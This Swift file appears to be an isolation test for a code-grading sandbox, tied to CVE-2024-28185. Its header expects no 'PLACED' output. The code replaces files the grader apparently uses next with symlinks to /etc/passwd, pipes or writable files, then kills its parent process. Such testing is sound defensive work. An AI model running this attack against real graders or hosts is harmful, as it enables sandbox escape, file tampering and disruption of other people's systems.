// base: right
// isolation: limits
// expect: crashed 0
// never: PLACED
import Glibc
extension Attack {
  // CVE-2024-28185: links in the place of what the grader writes or opens next, then an end of the whole run, so that the
  // grader comes back to its folder.
  static func before() {
    var paths = ["/tmp/hostile-unroll"]
    for name in names("/tmp") where name.hasPrefix("unroll-") {
      for file in ["build/program", "build/part", "source/Cell.swift", "part"] { paths.append("/tmp/\(name)/\(file)") }
    }
    var own = [CChar](repeating: 0, count: 4096)
    if readlink("/proc/self/exe", &own, 4095) > 0 { paths.append(String(cString: own)) }
    for path in paths {
      _ = unlink(path)
      if symlink("/etc/passwd", path) == 0 { print("PLACED link", path) }
      if mkfifo(path, 0o666) == 0 { print("PLACED pipe", path) }
      if open(path, O_CREAT | O_WRONLY | O_TRUNC, 0o777) >= 0 { print("PLACED file", path) }
    }
    fflush(nil)
    kill(getppid(), SIGKILL)
    abort()
  }
}
